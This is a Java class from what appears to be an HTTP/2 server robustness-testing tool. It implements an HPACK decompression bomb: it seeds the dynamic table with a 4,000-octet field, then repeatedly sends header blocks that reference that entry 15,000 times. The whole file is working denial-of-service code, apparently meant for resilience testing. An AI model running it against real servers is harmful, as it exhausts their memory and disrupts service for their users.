/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import java.io.IOException;
import java.util.EnumSet;
import java.util.Set;
import org.sbamock.http.HttpProtocol;
import org.sbamock.loadgen.attack.wire.AttackSession;
import org.sbamock.loadgen.attack.wire.Http2Frames;
import org.sbamock.loadgen.attack.wire.Octets;
import org.sbamock.loadgen.attack.wire.RawConnection;
import org.sbamock.loadgen.attack.wire.RequestHead;

/** A peer whose small field sections decompress to megabytes. */
final class HpackBomb implements HostilePeer {
  private static final int INCREMENTAL_INDEXING = 0x40;
  private static final int FIRST_DYNAMIC_INDEX = 0xbe;
  private static final int VALUE_LENGTH = 4_000;
  private static final int REFERENCES = 15_000;

  @Override
  public String id() {
    return "hpack-bomb";
  }

  @Override
  public String description() {
    return "Sends requests whose field sections of 16 KiB refer "
        + REFERENCES
        + " times to a field of "
        + VALUE_LENGTH
        + " octets in the dynamic table.";
  }

  @Override
  public Set<HttpProtocol> protocols() {
    return EnumSet.of(HttpProtocol.H2C, HttpProtocol.H2);
  }

  @Override
  public void attack(AttackSession session) throws IOException {
    byte[] head = RequestHead.get(session.target(), FileSize.SMALL.path()).hpack();
    byte[] first =
        new Octets()
            .octets(head)
            .octet(INCREMENTAL_INDEXING)
            .string("x")
            .string("v".repeat(VALUE_LENGTH))
            .toArray();
    byte[] reference = {(byte) FIRST_DYNAMIC_INDEX};
    byte[] bomb = new Octets().octets(head).octets(Octets.repeat(reference, REFERENCES)).toArray();
    try (RawConnection connection = session.connect()) {
      connection.drain();
      connection.write(Http2Frames.preface(Http2Frames.DEFAULT_WINDOW));
      connection.write(request(0, first));
      for (int i = 1; !session.isOver(); i++) {
        connection.write(request(i, bomb));
      }
    }
  }

  private static byte[] request(int index, byte[] section) {
    int flags = Http2Frames.END_HEADERS | Http2Frames.END_STREAM;
    return Http2Frames.frame(Http2Frames.HEADERS, flags, Streams.id(index), section);
  }
}
